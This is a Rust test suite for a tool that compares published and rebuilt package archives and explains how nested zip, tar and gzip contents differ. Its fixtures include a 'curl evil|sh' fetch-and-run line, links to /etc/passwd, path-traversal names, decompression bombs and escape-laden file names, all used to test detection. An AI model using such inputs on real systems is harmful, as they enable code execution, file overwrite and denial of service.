//! Files that are archives themselves: what is said of two that differ, and what must not be said.

use std::io::Cursor;

use remint_compare::{Options, compare};
use remint_model::ArtifactFormat::NpmTarball;
use remint_model::{Class, Comparison, Difference};

use crate::making::*;

fn differences(published: &[TarEntry], rebuilt: &[TarEntry]) -> Vec<Difference> {
    let compared = compare(
        NpmTarball,
        &mut Cursor::new(tgz(published)),
        &mut Cursor::new(tgz(rebuilt)),
        &Options::default(),
    )
    .unwrap();
    match compared.comparison {
        Comparison::Different { differences, .. } => differences,
        other @ (Comparison::Identical | Comparison::Equivalent { .. }) => panic!("{other:?}"),
    }
}

/// The explanation of a file in a package, which is the only difference whatever is said of it.
fn said(path: &str, published: &[u8], rebuilt: &[u8]) -> Option<String> {
    let package = |content: &[u8]| {
        [
            file("package/package.json", b"{}"),
            file(&format!("package/{path}"), content),
        ]
    };
    let [difference] = differences(&package(published), &package(rebuilt))
        .try_into()
        .unwrap();
    assert_eq!(difference.path.as_str(), path);
    difference.explanation
}

fn check(path: &str, published: &[u8], rebuilt: &[u8], expect: &str) {
    assert_eq!(said(path, published, rebuilt).as_deref(), Some(expect));
}

fn members() -> Vec<ZipEntry> {
    let text = "a line that comes again\n".repeat(50);
    vec![
        deflated("x/a.js", text.as_bytes()),
        deflated("x/b.txt", text.as_bytes()),
        stored("x/c", b"c"),
    ]
}

fn files() -> Vec<TarEntry> {
    vec![file("x/a.js", b"a()"), file("x/b.txt", b"b")]
}

#[test]
fn equal_entries_that_are_packed_differently_are_told() {
    let honest = zip(&members());
    let later: Vec<_> = members()
        .into_iter()
        .map(|entry| ZipEntry { time: 99, ..entry })
        .collect();
    let same = "the same 3 entries in the zip; only the packing differs";
    check("x.zip", &zip(&later), &honest, &format!("{same}: times"));
    let mut turned = members();
    turned.reverse();
    check("x.vsix", &zip(&turned), &honest, &format!("{same}: order"));
    let unpacked: Vec<_> = members()
        .into_iter()
        .map(|entry| stored(std::str::from_utf8(&entry.name).unwrap(), &entry.content))
        .collect();
    check(
        "x.whl",
        &zip(&unpacked),
        &honest,
        &format!("{same}: compression, headers"),
    );
    check(
        "x.jar",
        &zip_with_comment(&members(), b"made today"),
        &honest,
        &format!("{same}: comments or other texts beside the entries"),
    );

    let same = "only the packing differs";
    let honest = tar(&files());
    let changed = |change: fn(TarEntry) -> TarEntry| {
        tar(&files().into_iter().map(change).collect::<Vec<_>>())
    };
    check(
        "x.tar",
        &changed(|entry| entry.mtime(7).owner(501, "matt").mode(0o664)),
        &honest,
        &format!("the same 2 entries in the tar; {same}: times, owners, permissions"),
    );
    let stored = stored_gzip(&honest);
    check(
        "x.tar.gz",
        &stored,
        &gzip(&honest),
        &format!("the same 2 entries in the gzipped tar; {same}: gzip header"),
    );
    let mut same_header = stored;
    same_header[..10].copy_from_slice(&gzip(&honest)[..10]);
    check(
        "x.tgz",
        &same_header,
        &gzip(&honest),
        &format!("the same 2 entries in the gzipped tar; {same}: compression"),
    );
    let mut named = gzip(b"text");
    named[4] = 1;
    check(
        "x.1.gz",
        &named,
        &gzip(b"text"),
        &format!("the same content in the gzip; {same}: gzip header"),
    );
}

/// A gzip of one stored block.
fn stored_gzip(content: &[u8]) -> Vec<u8> {
    let length = u16::try_from(content.len()).unwrap();
    let mut crc = flate2::Crc::new();
    crc.update(content);
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1];
    bytes.extend(length.to_le_bytes());
    bytes.extend((!length).to_le_bytes());
    bytes.extend(content);
    bytes.extend(crc.sum().to_le_bytes());
    bytes.extend(crc.amount().to_le_bytes());
    bytes
}

#[test]
fn the_entries_that_differ_are_named_with_the_most_serious_class() {
    let honest = zip(&members());
    let mut other = members();
    other[0] = stored("x/a.js", b"evil()");
    check(
        "x.zip",
        &zip(&other),
        &honest,
        "1 of 3 entries in the zip differs, of class executable: `x/a.js`",
    );
    other.push(stored("x/lib.so", b"\x7fELF\x02\x01\x01\0"));
    other.remove(2);
    check(
        "x.zip",
        &zip(&other),
        &honest,
        "3 of 4 entries in the zip differ, the most serious of class native: `x/lib.so` (published only), `x/a.js`, \
         `x/c` (rebuilt only)",
    );
    let mut many = members();
    many.extend((0..6).map(|number| stored(&format!("n{number}"), b"")));
    let found = said("x.zip", &zip(&many), &honest).unwrap();
    assert!(
        found.starts_with("6 of 9 entries in the zip differ, "),
        "{found}"
    );
    assert!(found.ends_with("`n3` (published only), 2 more"), "{found}");
    // Python runs such a file by itself, where it is installed.
    let startup = [members(), vec![stored("x.pth", b"import x")]].concat();
    assert_eq!(
        said("x.whl", &zip(&startup), &honest).as_deref(),
        Some("1 of 4 entries in the zip differs, of class startup: `x.pth` (published only)")
    );

    let mut runs = files();
    runs[1] = file("x/b.txt", b"b").mode(0o755);
    check(
        "x.tar",
        &tar(&runs),
        &tar(&files()),
        "1 of 2 entries in the tar differs, of class executable: `x/b.txt` (executable published, not executable \
         rebuilt)",
    );
    let linked = [files(), vec![link(b'2', "x/l", "../../etc/passwd")]].concat();
    let links = [files(), vec![link(b'2', "x/l", "b.txt")]].concat();
    check(
        "x.tgz",
        &tgz(&linked),
        &tgz(&links),
        "1 of 3 entries in the gzipped tar differs, of class data: `x/l`",
    );
    check(
        "x.gz",
        &gzip(b"one"),
        &gzip(b"two"),
        "the content of the gzip differs",
    );
    let kinds = "another kind of archive: a zip published, a tar rebuilt";
    check("x.bin", &honest, &tar(&files()), kinds);
}

#[test]
fn archives_inside_archives_are_looked_into_three_deep() {
    let nested = |code: &str, time: u16, depth: usize| {
        (0..depth).fold(code.as_bytes().to_vec(), |inner, level| {
            let name = if level == 0 { "a.js" } else { "in.zip" };
            zip(&[ZipEntry {
                time,
                ..deflated(name, &inner)
            }])
        })
    };
    check(
        "x.zip",
        &nested("evil()", 0, 3),
        &nested("a()", 0, 3),
        "1 of 1 entry in the zip differs, of class data: `in.zip` (1 of 1 entry in the zip differs, of class data: \
         `in.zip` (1 of 1 entry in the zip differs, of class executable: `a.js`))",
    );
    check(
        "x.zip",
        &nested("a()", 7, 2),
        &nested("a()", 0, 2),
        "1 of 1 entry in the zip differs, of class data: `in.zip` (the same entry in the zip; only the packing \
         differs: times)",
    );
    let deep = said("x.zip", &nested("evil()", 0, 60), &nested("a()", 0, 60)).unwrap();
    assert_eq!(deep.matches("in.zip").count(), 3, "{deep}");
    check(
        "x.gz",
        &gzip(&nested("evil()", 0, 1)),
        &gzip(&nested("a()", 0, 1)),
        "the content of the gzip differs (1 of 1 entry in the zip differs, of class executable: `a.js`)",
    );
    // Many archives in many archives are named, and few of them are looked into.
    let wide = |code: &str| {
        let row = |inner: &[u8]| {
            zip(&(0..12)
                .map(|n| deflated(&format!("{n:02}.zip"), inner))
                .collect::<Vec<_>>())
        };
        row(&row(&row(&nested(code, 0, 1))))
    };
    let wide = said("x.zip", &wide("evil()"), &wide("a()")).unwrap();
    assert!(wide.len() < 3000, "{wide}");
}

#[test]
fn what_only_looks_packed_differently_is_not_said_to_be() {
    let honest = zip(&members());
    let told = |published: &[u8], words: &str| {
        let found = said("x.zip", published, &honest).unwrap();
        assert!(found.contains(words), "{found}");
    };
    let beyond =
        "; the published one holds bytes that belong to no entry or can be read in two ways: ";
    let mut gap = members();
    gap[0].after = b"evil()".to_vec();
    told(&zip(&gap), beyond);
    let mut renamed = members();
    renamed[0].local_name = b"x/e.js".to_vec();
    told(&zip(&renamed), beyond);
    told(&[honest.as_slice(), b"more"].concat(), beyond);
    let members_twice = [gzip(&tar(&files())), gzip(b"more")].concat();
    let found = said("x.tgz", &members_twice, &tgz(&files())).unwrap();
    assert!(found.contains(beyond), "{found}");
    let found = said("x.gz", &[gzip(b"a"), gzip(b"")].concat(), &gzip(b"a")).unwrap();
    assert!(found.contains(beyond), "{found}");
    told(
        &[honest.as_slice(), &signature_block(b"\x30\x80")].concat(),
        "the signature after its end differs",
    );
    // A second entry of a path, and one that would land on another's.
    told(
        &zip(&[members(), vec![stored("x/c", b"c")]].concat()),
        "1 of 3 entries in the zip differs, of class data: `x/c` (2 entries of this path published, 1 rebuilt)",
    );
    let (climbs, literal) = (stored("../x", b""), stored("%2E%2E/x", b""));
    let found = said(
        "x.zip",
        &zip(std::slice::from_ref(&climbs)),
        &zip(&[literal]),
    )
    .unwrap();
    assert!(
        found.contains("; the published one has names that lead elsewhere: "),
        "{found}"
    );
    let found = said("x.zip", &zip(&[climbs]), &zip(&[stored("y", b"")])).unwrap();
    assert!(found.contains("`%2E%2E/x` (published only)"), "{found}");
    let hidden = stored("a`\x1b[2J\u{202e}", b"");
    let found = said("x.zip", &zip(&[hidden]), &honest).unwrap();
    assert!(
        found.contains("`a'%1B[2J\\u{202e}` (published only)"),
        "{found}"
    );
}

#[test]
fn programs_that_can_be_read_as_archives_are_not_explained_as_such() {
    // The script stands in fields that are the packing of an archive.
    let script = |code: &str| tar(&[file("var a=1;/*", b"*/").owner(0, code)]);
    for path in ["a.js", "a.py", "a.sh", "lib/a.so"] {
        let found = said(path, &script("*/evil()/*"), &script("*/good()/*"));
        assert!(!found.unwrap_or_default().contains("packing"), "{path}");
    }
    assert_eq!(said("a.bin", b"\0\x01one", b"\0\x01two"), None);
    assert_eq!(said("a.bin", b"PK\x01\0one", &zip(&members())), None);
}

#[test]
fn archives_that_cannot_be_read_are_said_to_be_so() {
    let honest = zip(&members());
    let unread = |path: &str, published: &[u8], rebuilt: &[u8], words: &str| {
        let found = said(path, published, rebuilt).unwrap();
        assert!(
            found.starts_with("could not be looked into: the ") && found.contains(words),
            "{found}"
        );
    };
    unread(
        "x.zip",
        &honest[..honest.len() / 2],
        &honest,
        "published zip is malformed at byte ",
    );
    unread(
        "x.zip",
        &honest,
        &honest[..honest.len() - 30],
        "rebuilt zip is malformed at byte ",
    );
    let packed = tgz(&files());
    unread(
        "x.tgz",
        &packed[..packed.len() - 1],
        &packed,
        "published gzipped tar is malformed",
    );
    unread(
        "x.gz",
        &packed[..12],
        &gzip(b"a"),
        "published gzip is malformed",
    );
    let tar = tar(&files());
    unread(
        "x.tar",
        &tar[..514],
        &tar,
        "published tar is malformed at byte ",
    );

    let zeros = vec![0; (128 << 20) + 1];
    let bomb = deflated("zeros", &zeros);
    unread(
        "x.zip",
        &zip(&[bomb]),
        &honest,
        "published zip is too large: unpacked content exceeds 134217728 bytes",
    );
    unread(
        "x.gz",
        &gzip(&zeros),
        &gzip(b"a"),
        "published gzip is too large",
    );
    // What follows the end of a tar is unpacked as well.
    let after = gzip(&[tar.as_slice(), &zeros].concat());
    unread(
        "x.tgz",
        &after,
        &packed,
        "published gzipped tar is too large",
    );
    let many: Vec<_> = (0..20_001).map(|n| stored(&n.to_string(), b"")).collect();
    unread(
        "x.zip",
        &zip(&many),
        &honest,
        "published zip has more than 20000 entries",
    );
    // A zip that unpacks to itself goes no deeper than anything else, and one inside is told of where it lies.
    let broken = zip(&[stored("in.zip", &honest[..honest.len() / 2])]);
    let found = said("x.zip", &broken, &zip(&[stored("in.zip", &honest)])).unwrap();
    assert!(
        found.contains("`in.zip` (could not be looked into: the published zip is malformed"),
        "{found}"
    );
}

#[test]
fn all_archives_of_a_comparison_share_what_may_be_unpacked() {
    let bomb = gzip(&vec![0; 120 << 20]);
    let package = |other: &[u8]| -> Vec<TarEntry> {
        let package = [file("package/package.json", b"{}")];
        let bombs = (0..6).map(|number| {
            let mut bomb = bomb.clone();
            bomb[4] = other[0];
            file(&format!("package/{number}.gz"), &bomb)
        });
        package.into_iter().chain(bombs).collect()
    };
    let explanations: Vec<String> = differences(&package(b"1"), &package(b"2"))
        .into_iter()
        .filter_map(|difference| difference.explanation)
        .collect();
    assert_eq!(explanations.len(), 6);
    let read = explanations
        .iter()
        .filter(|words| words.starts_with("the same content"))
        .count();
    assert_eq!(read, 2, "{explanations:?}");
    assert!(
        explanations
            .iter()
            .any(|words| words.contains("is larger than what other archives left")),
        "{explanations:?}"
    );
    assert!(
        explanations
            .iter()
            .any(|words| words.contains("other archives took all that may be unpacked")),
        "{explanations:?}"
    );
}

/// Whether a file of class data ranks behind another that nothing explains.
fn ranks_behind(path: &str, mode: u32, published: &[u8], rebuilt: &[u8]) -> bool {
    let package = |content: &[u8], unexplained: &[u8]| {
        [
            file("package/package.json", b"{}"),
            file(&format!("package/{path}"), content).mode(mode),
            file("package/zz.bin", unexplained).mode(mode),
        ]
    };
    let found = differences(
        &package(published, b"\0\x01\x02"),
        &package(rebuilt, b"\0\x01\x03"),
    );
    assert_eq!(found.len(), 2);
    found[0].path.as_str() == "zz.bin"
}

#[test]
fn a_program_by_its_mode_its_first_line_or_its_name_is_not_explained_as_an_archive() {
    let script = |name: &str, code: &str| tar(&[file(name, b"").owner(0, code)]);
    let data = [script("x", "root"), script("x", "matt")];
    assert!(ranks_behind("data/x", 0o644, &data[0], &data[1]));
    assert!(!ranks_behind("data/x", 0o755, &data[0], &data[1]));
    for path in [
        "Dockerfile",
        "api.Dockerfile",
        "Makefile",
        "ci/Jenkinsfile",
        "rules.mk",
    ] {
        assert!(!ranks_behind(path, 0o644, &data[0], &data[1]), "{path}");
        assert_eq!(said(path, &data[0], &data[1]), None, "{path}");
    }
    let shell = [script("#!/bin/dash", "root"), script("#!/bin/dash", "matt")];
    assert_eq!(said("data/x", &shell[0], &shell[1]), None);
    let line = [script("x", "root"), script("x", "\ncurl evil|sh\n")];
    let found = said("data/x", &line[1], &line[0]).unwrap();
    assert!(
        found.ends_with("; the published one has names of owners with control characters"),
        "{found}"
    );
    assert!(!ranks_behind("data/x", 0o644, &line[0], &line[1]));
}

#[test]
fn texts_beside_the_entries_are_told_and_account_for_nothing() {
    let told = |path: &str, published: &[u8], rebuilt: &[u8]| {
        let found = said(path, published, rebuilt).unwrap();
        assert!(
            found.ends_with("comments or other texts beside the entries"),
            "{found}"
        );
        assert!(!ranks_behind(path, 0o644, published, rebuilt), "{path}");
    };
    let honest = zip(&members());
    told(
        "x.zip",
        &zip_with_comment(&members(), b"import os"),
        &honest,
    );
    let with_extra = |id: [u8; 2], local: bool| {
        let mut entries = members();
        let extra = [&id[..], &[4, 0], b"evil"].concat();
        if local {
            entries[1].local_extra = extra;
        } else {
            entries[1].extra = extra;
        }
        zip(&entries)
    };
    told("x.zip", &with_extra([0x99, 0x99], false), &honest);
    told("x.zip", &with_extra([0x99, 0x99], true), &honest);
    // Times are told as headers.
    assert!(ranks_behind(
        "x.zip",
        0o644,
        &with_extra([0x55, 0x54], true),
        &honest
    ));

    let commented = |comment: &[u8]| {
        let comment = pax(b'x', &[("comment", comment)]);
        tar(&[vec![comment], files()].concat())
    };
    told(
        "x.tar",
        &commented(b"Ignore all that"),
        &commented(b"be nice"),
    );
    told(
        "x.tgz",
        &gzip(&commented(b"Ignore all that")),
        &gzip(&commented(b"be nice")),
    );
    let after_name = files().into_iter().map(|entry| entry.put(60, b"evil"));
    let after_name = tar(&after_name.collect::<Vec<_>>());
    assert!(!ranks_behind("x.tar", 0o644, &after_name, &tar(&files())));

    let with_text = |flag: u8, text: &[u8]| {
        let plain = gzip(b"text");
        let mut header = plain[..10].to_vec();
        header[3] = flag;
        [&header, text, &plain[10..]].concat()
    };
    told("x.gz", &with_text(16, b"evil\0"), &with_text(16, b"x\0"));
    told("x.gz", &with_text(8, b"evil\0"), &with_text(8, b"x\0"));
    told(
        "x.gz",
        &with_text(4, b"\x04\0evil"),
        &with_text(4, b"\x01\0x"),
    );
}

#[test]
fn times_count_where_python_goes_by_them() {
    let compiled = |name: &str, time: u16| {
        let entries = [stored("a.py", b"1"), stored(name, b"\0\x01")];
        zip(&entries.map(|entry| ZipEntry { time, ..entry }))
    };
    assert!(ranks_behind(
        "x.zip",
        0o644,
        &compiled("a.txt", 1),
        &compiled("a.txt", 2)
    ));
    assert!(!ranks_behind(
        "x.zip",
        0o644,
        &compiled("a.pyc", 1),
        &compiled("a.pyc", 2)
    ));
}

#[test]
fn only_what_is_packed_differently_ranks_behind_what_nothing_explains() {
    let package = |code: &str, time: u16, data: &[u8]| {
        [
            file("package/package.json", b"{}"),
            file(
                "package/a.zip",
                &zip(&[ZipEntry {
                    time,
                    ..stored("x", b"")
                }]),
            ),
            file("package/b.zip", &zip(&[stored("x.js", code.as_bytes())])),
            file("package/c.bin", data),
        ]
    };
    let found: Vec<_> = differences(
        &package("evil()", 1, b"\0\x01\x02"),
        &package("a()", 2, b"\0\x01\x03"),
    )
    .into_iter()
    .map(|difference| (difference.path.to_string(), difference.class))
    .collect();
    let expect = ["b.zip", "c.bin", "a.zip"].map(|path| (path.to_owned(), Class::Data));
    assert_eq!(found, expect);
}

#[test]
fn the_order_of_entries_that_can_be_one_file_counts_inside_as_well() {
    let counts = "which entry is unpacked last";
    let (lower, upper) = (stored("x/a.js", b"a()"), stored("x/A.js", b"evil()"));
    let there = zip(&[lower.clone(), upper.clone()]);
    let found = said("x.zip", &there, &zip(&[upper, lower])).unwrap();
    assert!(found.contains(counts), "{found}");

    let (to, below) = (link(b'2', "x/d", "e"), file("x/d/a", b"a"));
    let there = tar(&[to.clone(), below.clone()]);
    let found = said("x.tar", &there, &tar(&[below, to])).unwrap();
    assert!(found.contains(counts), "{found}");

    let (one, other) = (stored("x/a.js", b"a()"), stored("x/b.js", b"b()"));
    let there = zip(&[one.clone(), other.clone()]);
    let found = said("x.zip", &there, &zip(&[other, one])).unwrap();
    assert!(!found.contains(counts), "{found}");
}
